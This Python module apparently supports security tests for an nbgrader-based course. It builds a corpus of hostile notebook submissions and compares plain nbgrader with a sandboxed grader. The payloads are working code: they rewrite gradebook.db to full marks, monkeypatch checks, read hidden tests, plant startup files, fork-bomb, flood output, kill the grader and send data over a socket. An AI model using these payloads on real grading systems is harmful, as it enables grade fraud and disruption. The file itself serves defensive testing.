"""A corpus of hostile a01_math submissions, graded beside correct controls.

Each code attack replaces the `softmax` answer cell of the *untouched* exercise (every other
answer still raises NotImplementedError), so it deserves 0 points; whatever it scores came from
the attack. Malformed submissions are bytes or notebook edits. Used by tests/test_grader_attacks.py
(the sandboxed grader) and, run as a script, measures plain `nbgrader autograde` on the same
corpus for the README:

    PYTHONPATH=tests:. .venv/bin/python tests/grader_attacks.py   # ~10 min: prints a Markdown table

Attacks are bounded (memory 5 GiB, 300 processes, 1 GiB of output, 25 s of CPU) so that measuring
plain nbgrader, which has no caps, cannot take down the machine; the plain-nbgrader run gets its
own HOME, so a planted startup file stays inside the experiment.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

ASSIGNMENT = "a01_math"
MARK = "PWNED-7f3a"  # planted files and exfiltrated data carry this marker

# Finds the course from the kernel's working directory (plain nbgrader runs it in
# autograded/<student>/<assignment>/) or by walking the usual places.
FIND = r'''
import os, pathlib
def _course_roots():
    here = pathlib.Path.cwd()
    roots = [p for p in [here, *here.parents] if (p / "nbgrader_config.py").exists()]
    for top in ("/work", "/tmp", "/root", "/home", "/srv"):
        try:
            for dirpath, dirnames, filenames in os.walk(top):
                if "nbgrader_config.py" in filenames:
                    roots.append(pathlib.Path(dirpath))
                if dirpath.count(os.sep) > 6:
                    dirnames[:] = []
        except OSError:
            pass
    # Safety: only the experiment's own courses (a real attacker would take every course it finds).
    return [r for r in dict.fromkeys(roots) if r in here.parents or r == here or "attack" in str(r)]
'''

# A wrong softmax that the attacks pair with their tampering.
WRONG = "\nimport numpy as np\ndef softmax(z, axis=-1):\n    return np.asarray(z, dtype=float)\n"


@dataclass
class Attack:
    name: str
    kind: str  # the attack category
    what: str  # one line for the README table
    softmax: str | None = None  # source for the softmax answer cell
    extra_cells: tuple = ()  # code cells appended after the last cell
    raw: bytes | None = None  # the notebook file's bytes instead (malformed input)
    edit: str | None = None  # a named edit of the released notebook (malformed input)
    filename: str | None = None  # file name instead of a01_math.ipynb
    deserved: float = 0.0  # the most points the submission honestly earns
    solved: bool = False  # start from the solution instead of the blank exercise


ATTACKS = [
    Attack("tamper_checks", "tampering in-process",
           "replace the check_* helpers and `softmax` in the kernel so restored test cells pass",
           softmax=WRONG + r'''
import course_utils.checks as _c
def _ok(*a, **k):
    return None
for _n in dir(_c):
    if _n.startswith("check_"):
        setattr(_c, _n, _ok)
        globals()[_n] = _ok
def _any(*a, **k):
    return np.zeros(1)
logsumexp = cross_entropy = numerical_gradient = softmax_jacobian = softmax_backward = _any
'''),
    Attack("tamper_runner", "tampering in-process",
           "patch NumPy's comparisons, the grader's modules and forge result files, then exit",
           softmax=WRONG + r'''
import sys, glob, json
np.isclose = lambda *a, **k: True
np.allclose = np.array_equal = lambda *a, **k: True
for _m in list(sys.modules.values()):
    if getattr(_m, "__name__", "").startswith("grader"):
        for _n in dir(_m):
            if _n.startswith(("compare", "score", "parse")):
                setattr(_m, _n, lambda *a, **k: (True, "passed"))
for _i in range(40):
    for _d in ("/job/out",):
        try:
            with open(f"{_d}/{_i:03d}.json", "w") as _f:
                json.dump({"grade_id": "x", "error": None, "entries": []}, _f)
        except OSError:
            pass
'''),
    Attack("write_gradebook", "writing course files / gradebook",
           "find gradebook.db and set every grade to full marks with sqlite3",
           softmax=WRONG + FIND + r'''
import sqlite3
for _root in _course_roots():
    try:
        _db = sqlite3.connect(str(_root / "gradebook.db"), timeout=30)
        _db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
        _db.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
        _db.commit()
    except Exception:
        pass
'''),
    Attack("read_hidden", "reading hidden tests / solutions",
           "read hidden tests from the gradebook and solutions/ and print them into its own feedback",
           softmax=WRONG + FIND + r'''
import sqlite3
_found = []
for _root in _course_roots():
    try:
        _db = sqlite3.connect(str(_root / "gradebook.db"), timeout=30)
        _found += [r[0] for r in _db.execute("SELECT source FROM source_cells")]
    except Exception:
        pass
    for _p in _root.glob("solutions/*/*"):
        try:
            _found.append(_p.read_text())
        except Exception:
            pass
for _p in ("/job/in/grading_spec.py",):
    try:
        _found.append(open(_p).read())
    except OSError:
        pass
print("\n".join(_found))
'''),
    Attack("persist_startup", "persistence (startup files, HOME, tmp)",
           "plant an IPython startup file, a sitecustomize in HOME and a /tmp file that break later submissions",
           softmax=WRONG + r'''
import os, pathlib
_payload = "import builtins\nbuiltins.__import__ = None  # PWNED-7f3a: breaks every later kernel\n"
for _d in (pathlib.Path.home() / ".ipython/profile_default/startup", pathlib.Path(os.environ.get("IPYTHONDIR", "/nonexistent")) / "profile_default/startup"):
    try:
        _d.mkdir(parents=True, exist_ok=True)
        (_d / "00-PWNED-7f3a.py").write_text(_payload)
    except OSError:
        pass
for _f in (pathlib.Path("/tmp/PWNED-7f3a-planted"), pathlib.Path.home() / "PWNED-7f3a-planted"):
    try:
        _f.write_text("PWNED-7f3a")
    except OSError:
        pass
'''),
    Attack("network", "network access",
           "open a TCP connection to a listener on the grading machine and send data out",
           softmax=WRONG + r'''
import socket, os
for _port in [int(os.environ.get("ATTACK_PORT", "0")) or 0, *range(47000, 47010)]:
    try:
        _s = socket.create_connection(("127.0.0.1", _port), timeout=1)
        _s.sendall(b"PWNED-7f3a")
        _s.close()
    except OSError:
        pass
'''),
    Attack("memory", "memory exhaustion", "allocate and touch 5 GiB",
           softmax=WRONG + r'''
_blocks = []
for _ in range(40):
    _blocks.append(np.ones(2**24))  # 128 MiB each
'''),
    Attack("cpu_ignore_signals", "CPU exhaustion / ignored signals",
           "ignore SIGINT, SIGTERM and SIGALRM, then spin for 25 s of CPU",
           softmax=WRONG + r'''
import signal, time
for _s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
    signal.signal(_s, signal.SIG_IGN)
_t = time.process_time()
while time.process_time() - _t < 25:
    pass
'''),
    Attack("fork_bomb", "process exhaustion", "fork 300 processes that outlive the kernel for 60 s",
           softmax=WRONG + r'''
import os, time
for _ in range(300):
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
    except OSError:
        break
'''),
    Attack("kill_kernel", "killing the kernel / grader",
           "ignore signals, SIGKILL its parent process (the grader) and exit",
           softmax=WRONG + r'''
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
os._exit(0)
'''),
    Attack("output_flood", "output flood", "write 1 GiB to stdout and to file descriptor 1",
           softmax=WRONG + r'''
import os, sys
_chunk = "x" * 2**20
for _ in range(512):
    sys.stdout.write(_chunk)
    try:
        os.write(1, _chunk.encode())
    except OSError:
        break
'''),
    # Malformed notebooks: a clear one-line verdict, nothing else graded wrongly.
    Attack("invalid_json", "malformed notebook", "invalid JSON", raw=b'{"cells": [,]}'),
    Attack("nbformat3", "malformed notebook", "notebook format version 3", edit="nbformat3"),
    Attack("empty_file", "malformed notebook", "an empty file", raw=b""),
    Attack("huge_file", "malformed notebook", "a 25 MiB file", edit="huge"),
    Attack("huge_outputs", "malformed notebook", "the solution with 3 MiB of outputs (graded, outputs dropped)",
           edit="huge_outputs", solved=True, deserved=float("inf")),
    Attack("non_utf8", "malformed notebook", "Latin-1 bytes in a cell", edit="latin1"),
    Attack("wrong_filename", "malformed notebook", "the solution saved as `a01_math (1).ipynb`",
           filename="a01_math (1).ipynb", solved=True),
    Attack("duplicated_cells", "malformed notebook", "an answer cell pasted twice", edit="duplicate"),
    Attack("deleted_tests", "malformed notebook", "the solution with every test cell deleted (graded: probes do not need them)",
           edit="delete_tests", solved=True, deserved=float("inf")),
    Attack("changed_metadata", "malformed notebook", "the solution with a test cell's points raised to 100",
           edit="points", solved=True, deserved=float("inf")),
    Attack("changed_cell_type", "malformed notebook", "the solution with the softmax cell turned into markdown",
           edit="cell_type", solved=True, deserved=float("inf")),
]


def apply_edit(nb: dict, edit: str) -> bytes:
    """The bytes of the released/solved notebook ``nb`` after the named malformed edit."""
    cells = nb["cells"]

    def gid(c):
        return c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
    if edit == "nbformat3":
        nb = {"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}], "metadata": {}}
    elif edit == "huge":
        nb["metadata"]["padding"] = "x" * (25 * 2**20)
    elif edit == "huge_outputs":
        for c in cells:
            if c["cell_type"] == "code" and gid(c) == "softmax":
                c["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "y" * (3 * 2**20)}]
    elif edit == "latin1":
        return json.dumps(nb).replace("Softmax", "Softmax \udce9", 1).encode("utf-8", "surrogateescape")
    elif edit == "duplicate":
        cells.append(json.loads(json.dumps(next(c for c in cells if gid(c) == "softmax"))))
    elif edit == "delete_tests":
        nb["cells"] = [c for c in cells if not c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    elif edit == "points":
        for c in cells:
            if gid(c) == "test_softmax_basic":
                c["metadata"]["nbgrader"]["points"] = 100
    elif edit == "cell_type":
        for c in cells:
            if gid(c) == "softmax":
                c["cell_type"] = "markdown"
                c.pop("outputs", None)
                c.pop("execution_count", None)
    else:
        raise ValueError(edit)
    return json.dumps(nb, indent=1).encode("utf-8")


def write_submissions(course, attacks=ATTACKS) -> dict[str, Attack]:
    """Write every attack as submitted/<attack>/a01_math/ in ``course``; return student -> Attack."""
    from grading import cells_by_grade_id, load, solved_source

    release = load(course / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    solutions = cells_by_grade_id(load(course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"))
    out = {}
    for attack in attacks:
        nb = json.loads(json.dumps(release))
        for g, cell in cells_by_grade_id(nb).items():
            if attack.solved and cell["metadata"]["nbgrader"].get("solution"):
                cell["source"] = solved_source(solutions[g])
            if g == "softmax" and attack.softmax:
                cell["source"] = attack.softmax.strip("\n")
        for src in attack.extra_cells:
            nb["cells"].append({"cell_type": "code", "metadata": {}, "source": src, "outputs": [],
                                "execution_count": None})
        data = attack.raw if attack.raw is not None else (
            apply_edit(nb, attack.edit) if attack.edit else json.dumps(nb, indent=1).encode())
        folder = course / "submitted" / attack.name / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        (folder / (attack.filename or f"{ASSIGNMENT}.ipynb")).write_bytes(data)
        out[attack.name] = attack
    return out


def hidden_lines(course) -> list[str]:
    """Lines of the hidden tests (and of the grading spec's probes) that must never reach a learner."""
    from grading import load, source

    lines = []
    for cell in load(course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")["cells"]:
        text = source(cell)
        if "### BEGIN HIDDEN TESTS" in text:
            region = text.split("### BEGIN HIDDEN TESTS", 1)[1].split("### END HIDDEN TESTS", 1)[0]
            lines += [ln.strip() for ln in region.splitlines() if len(ln.strip()) > 30]
    return lines


def feedback_text(course, student: str) -> str:
    import html

    from grading import nbgrader

    try:
        nbgrader(course, "generate_feedback", ASSIGNMENT, "--student", student, "--force")
    except RuntimeError:
        return ""
    return "\n".join(html.unescape(p.read_text(encoding="utf-8", errors="replace"))
                     for p in (course / "feedback" / student / ASSIGNMENT).glob("*.html"))


# Attacks that can harm the run or other submissions under plain nbgrader get a run of their own;
# the rest share one run (with the same two controls).
ALONE = ("write_gradebook", "persist_startup", "kill_kernel", "fork_bomb", "cpu_ignore_signals", "output_flood",
         "memory")


def _measure(tool: str, only: list[str] | None = None) -> list[dict]:
    """Grade the corpus with ``tool`` ("plain" nbgrader or the "grader"); one row per attack."""
    import os
    import socket
    import tempfile
    import threading
    import time
    from pathlib import Path

    from grading import autograde, grade, make_course, scores, submit

    rows = []
    received: list[bytes] = []
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", 0))
    listener.listen(50)
    os.environ["ATTACK_PORT"] = str(listener.getsockname()[1])  # plain nbgrader's kernels inherit it
    listener.settimeout(0.5)
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                received.append(conn.recv(100))
                conn.close()
            except OSError:
                continue
    threading.Thread(target=serve, daemon=True).start()
    home = Path(tempfile.mkdtemp(prefix="attack-home-"))
    old_home = os.environ.get("HOME")
    os.environ["HOME"] = str(home)  # plain nbgrader's kernels inherit it: planted files stay in the experiment
    os.environ["IPYTHONDIR"] = str(home / ".ipython")
    attacks = [a for a in ATTACKS if not only or a.name in only]
    if tool == "grader":
        groups = [attacks]  # the grader isolates submissions: one run for everything
    else:
        alone = set(ALONE) | ({a.name for a in attacks} if os.environ.get("ATTACK_ALONE") else set())
        groups = [g for g in [[a for a in attacks if a.name not in alone]] + [[a] for a in attacks if a.name in alone]
                  if g]
    try:
        for group in groups:
            course = make_course(Path(tempfile.mkdtemp(prefix=f"attack-{tool}-")), ASSIGNMENT)
            submit(course, ASSIGNMENT, "a_control")
            write_submissions(course, group)
            submit(course, ASSIGNMENT, "z_control")
            received.clear()
            t0 = time.monotonic()
            error = ""
            try:
                if tool == "plain":
                    autograde(course, ASSIGNMENT)
                else:
                    grade(course, ASSIGNMENT, "--timeout", "60", jobs=2)
            except Exception as err:  # noqa: BLE001
                error = str(err).strip().splitlines()[0][:80] if str(err).strip() else type(err).__name__
            seconds = time.monotonic() - t0
            try:
                result, _ = scores(course, ASSIGNMENT)
            except Exception as err:  # noqa: BLE001
                result = {}
                error = error or f"gradebook unreadable: {type(err).__name__}"
            controls_ok = all(s in result and result[s].total == result[s].max_total for s in ("a_control", "z_control"))
            planted = list(home.rglob("*PWNED*")) + list(Path("/tmp").glob("PWNED-7f3a*"))
            net = any(MARK.encode() in r for r in received)
            for attack in group:
                got = result.get(attack.name)
                deserved = 39.0 if attack.deserved == float("inf") else attack.deserved
                fb = feedback_text(course, attack.name) if attack.name == "read_hidden" else ""
                rows.append({"attack": attack.name, "kind": attack.kind, "what": attack.what,
                             "score": None if got is None else got.total,
                             "undeserved": got is not None and got.total > deserved + 1e-9,
                             "controls_ok": controls_ok if len(group) == 1 or attack.name in ALONE else controls_ok,
                             "leaked": any(line in fb for line in hidden_lines(course))
                             or (net and attack.name == "network"),
                             "planted": bool(planted) and attack.name == "persist_startup",
                             "error": error, "seconds": round(seconds, 1)})
                print(rows[-1], flush=True)
            for p in planted:
                p.unlink(missing_ok=True)
    finally:
        stop.set()
        listener.close()
        if old_home is not None:
            os.environ["HOME"] = old_home
    return rows


def main() -> None:
    """Measure plain nbgrader and the grader on the corpus; print a Markdown table."""
    import sys

    tools = sys.argv[1:2] or ["plain", "grader"]
    rows = {tool: _measure(tool, sys.argv[2:] or None) for tool in tools}
    if len(tools) == 1:
        return

    def verdict(r):
        bad = [w for w, flag in (("undeserved points", r["undeserved"]), ("control lost points", not r["controls_ok"]),
                                 ("leak", r["leaked"]), ("planted files", r["planted"])) if flag]
        if r["error"] and r["score"] is None and not r["controls_ok"]:
            bad.append("run crashed")
        return "defended" if not bad else "**" + ", ".join(dict.fromkeys(bad)) + "**"
    print("| attack | kind | plain `nbgrader autograde` | `make grade` (sandboxed grader) |")
    print("|---|---|---|---|")
    for p, g in zip(rows["plain"], rows["grader"]):
        print(f"| {p['attack']}: {p['what']} | {p['kind']} | {verdict(p)} | {verdict(g)} |")
    for tool in rows:
        n = sum(verdict(r) == "defended" for r in rows[tool])
        print(f"{tool}: {n}/{len(rows[tool])} defended")


if __name__ == "__main__":
    main()
